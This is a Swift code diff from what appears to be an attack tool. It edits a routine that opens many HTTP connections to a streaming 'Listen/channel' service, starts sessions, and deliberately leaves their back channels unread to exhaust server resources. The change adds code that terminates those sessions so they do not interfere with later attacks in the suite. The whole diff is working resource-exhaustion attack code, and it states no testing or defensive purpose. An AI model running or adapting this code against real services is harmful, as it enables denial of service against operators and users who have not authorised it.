@@ -8,22 +8,34 @@ import HTTPTransport
 extension Attack {
   private static let channel = service + "Listen/channel"
 
-  /// Opens sessions that listen to the large documents, and does not read their back channels. The sessions
-  /// stay for a minute after the connections are gone.
+  /// Opens sessions that listen to the large documents, and does not read their back channels.
   func unreadChannels(_ count: Int) {
     let sockets = openMany(count, .http1, receiveBuffer: 4096)
     let opening = openingRequest
     for socket in sockets where !isOver { socket.send(opening) }
+    var ids: [String] = []
     for socket in sockets where !isOver {
       guard let id = Self.sessionID(in: socket.receiveAll(seconds: 0)) else { continue }
-      socket.send(get(target(sid: id)))
+      ids.append(id)
+      socket.send(get(target(sid: id, "RID=rpc&AID=0&CI=0&TYPE=xmlhttp")))
     }
     wait(seconds: 2)
     for socket in sockets { socket.reset() }
+    end(ids)
   }
 
-  private func target(sid: String) -> String {
-    "\(Self.channel)?VER=8&CVER=22&SID=\(sid)&RID=rpc&AID=0&CI=0&TYPE=xmlhttp"
+  /// Ends sessions, which would stay for a minute, beside the next kinds of attack.
+  private func end(_ ids: [String]) {
+    guard let socket = open(.http1) else { return }
+    for id in ids {
+      socket.send(get(target(sid: id, "RID=2&TYPE=terminate")))
+      _ = socket.receiveAll(seconds: 0)
+    }
+    socket.reset()
+  }
+
+  private func target(sid: String, _ parameters: String) -> String {
+    "\(Self.channel)?VER=8&CVER=22&SID=\(sid)&\(parameters)"
   }
 
   private var openingRequest: [UInt8] {
